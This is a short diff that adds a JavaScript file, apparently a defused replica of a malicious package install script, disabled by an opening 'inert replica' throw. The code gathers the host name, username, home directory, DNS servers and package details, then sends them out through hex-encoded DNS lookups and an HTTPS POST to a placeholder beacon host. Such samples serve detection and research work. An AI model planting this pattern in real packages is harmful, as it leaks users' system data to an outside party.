@@ -1,0 +1,11 @@
+throw new Error("inert replica");
+const os = require("os");
+const dns = require("dns");
+const https = require("https");
+const manifest = require("./package.json");
+const told = JSON.stringify({ p: manifest.name, c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers(), r: manifest.resolved, v: manifest.version });
+const hex = Buffer.from(told).toString("hex").match(/.{1,60}/g) || [];
+hex.forEach((part, at) => dns.lookup(`${at}.${part}.beacon.replica.invalid`, () => {}));
+const request = https.request({ hostname: "beacon.replica.invalid", port: 443, path: "/", method: "POST" });
+request.on("error", () => {});
+request.end(told);
